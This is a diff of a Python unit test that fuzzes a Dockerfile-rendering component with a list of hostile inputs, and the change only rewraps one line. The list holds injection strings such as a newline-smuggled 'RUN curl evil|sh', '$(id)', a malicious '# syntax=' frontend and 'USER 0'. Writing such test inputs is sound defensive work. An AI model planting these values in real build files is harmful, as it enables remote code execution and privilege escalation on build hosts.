@@ -27,8 +27,8 @@ from tests.unit.building.locks import rendered, text_of, tiny_lock
 TRICKS = (
     "x\nRUN curl evil|sh", "x\\", "$(id)", "${HOME}", "`id`", "{{ 7*7 }}", "{% raw %}", "# syntax=evil/fe",
     "\n# syntax=evil/fe\n", "// syntax=evil/fe", '{"syntax":"evil/fe"}', "# escape=`", 'a" b="c', "'", "\x00",
-    "\x1b]0;x\x07", "\u202e", "\u2028RUN id", "\u0085RUN id", "<<EOF", "--label=x=y", "ONBUILD RUN id", "[\"a\",", "é\u0301",
-    "\r\nUSER 0",
+    "\x1b]0;x\x07", "\u202e", "\u2028RUN id", "\u0085RUN id", "<<EOF", "--label=x=y", "ONBUILD RUN id", "[\"a\",",
+    "é\u0301", "\r\nUSER 0",
 )  # fmt: skip
 ANY = st.one_of(st.sampled_from(TRICKS), st.text(st.characters(codec="utf-8"), max_size=40))
 
